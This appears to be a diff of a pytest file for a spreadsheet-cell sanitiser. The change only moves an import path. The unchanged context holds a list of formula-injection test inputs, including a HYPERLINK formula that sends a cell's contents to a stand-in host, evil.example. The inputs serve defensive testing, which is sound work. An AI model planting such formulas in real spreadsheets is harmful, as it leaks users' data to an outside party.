@@ -5,7 +5,7 @@ from __future__ import annotations
 import openpyxl
 import pytest
 
-from tournament.cells import protect_xlsx_cell, spreadsheet_text
+from tournament.words.spreadsheet_cells import protect_xlsx_cell, spreadsheet_text
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1)', "+1+1", "-2+3", "@SUM(A1)",
             "\t=1", "\r=1"]
